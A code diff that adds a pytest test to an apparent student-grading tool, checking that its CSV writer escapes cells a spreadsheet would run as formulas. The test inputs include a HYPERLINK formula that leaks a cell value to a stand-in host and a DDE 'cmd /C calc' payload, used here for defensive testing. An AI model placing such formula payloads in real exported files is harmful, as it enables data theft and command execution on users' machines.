@@ -455,3 +455,24 @@ def test_a_canvas_roster_names_the_class(tmp_path):
     )
     assert rows == [{"Student": "Doe, Jane", "ID": "999", "SIS User ID": "S999", "SIS Login ID": "jdoe",
                      "Section": "Section A", "Embeddings (9001)": "9.6"}]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ('=HYPERLINK("http://example.invalid/?"&A1,"open")', '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("-2+3", "'-2+3"),
+        ("\t=1", "'\t=1"),
+        ("-1.5", "-1.5"),
+        ("cell 3, line 2: x = 1", "cell 3, line 2: x = 1"),
+    ],
+)
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path, written, read):
+    from grader import reports
+
+    reports._write_csv(tmp_path / "x.csv", ("student", "code", "score"), [{"student": "ann", "code": written, "score": 1}])
+    with open(tmp_path / "x.csv", newline="") as f:
+        (row,) = list(csv.DictReader(f))
+    assert (row["code"], row["score"]) == (read, "1")
